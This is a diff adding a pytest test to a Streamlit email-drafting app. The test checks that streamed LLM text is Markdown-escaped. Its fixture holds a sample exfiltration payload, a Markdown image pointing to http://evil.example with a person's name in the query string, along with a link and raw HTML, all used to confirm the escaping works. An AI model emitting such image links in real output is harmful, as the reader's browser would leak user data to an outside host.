@@ -250,6 +250,42 @@ def test_write_with_ai_streams_then_shows_the_checked_draft(monkeypatch) -> None
     assert "Texte de l'IA" not in _body(_ok(at))
 
 
+def test_the_streamed_preview_is_escaped_like_every_model_text(monkeypatch) -> None:
+    """A Markdown image in the model's text would be fetched by the browser while it streams (a tracking pixel)."""
+    import streamlit
+
+    import rebond.drafting
+    from views.common import md
+
+    monkeypatch.setenv("REBOND_ENGINE", "llm")
+    monkeypatch.setenv("OPENAI_API_KEY", FAKE_KEY)
+    payload = ["Bonjour ![logo](http://evil.example/p.png?d=", "Camille) **gras** <b>x</b> [lien](", "http://evil.example)"]
+    shown: list[str] = []
+    real_write_stream = streamlit.write_stream
+
+    def recording(stream, *args, **kwargs):
+        pieces = list(stream)
+        shown.extend(pieces)
+        return real_write_stream(iter(pieces), *args, **kwargs)
+
+    class FakeStream:
+        def __init__(self, request):
+            self.request, self.result = request, None
+
+        def __iter__(self):
+            yield from payload
+            self.result = Draft(subject="Objet", body="Bonjour,\n\nTexte.\n\nCamille Tremblay", channel=self.request.channel,
+                                language=Language.FR, engine="llm:fake-model")
+
+    monkeypatch.setattr(streamlit, "write_stream", recording)
+    monkeypatch.setattr(rebond.drafting, "stream_draft", lambda request, settings=None, model=None: FakeStream(request))
+    at = _filled()
+    next(b for b in at.button if b.label == "Écrire avec l'IA").click().run()
+    _ok(at)
+    assert "".join(shown) == md("".join(payload))  # escaping piece by piece is escaping the whole
+    assert re.search(r"(?<!\\)[\[\]<>*]", "".join(shown)) is None  # no bracket, tag or star left bare
+
+
 def test_a_model_answer_that_fails_the_checks_is_replaced_and_the_notice_shown(monkeypatch) -> None:
     """The real drafting pipeline with a scripted model: the page shows the offline draft and says why."""
     from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
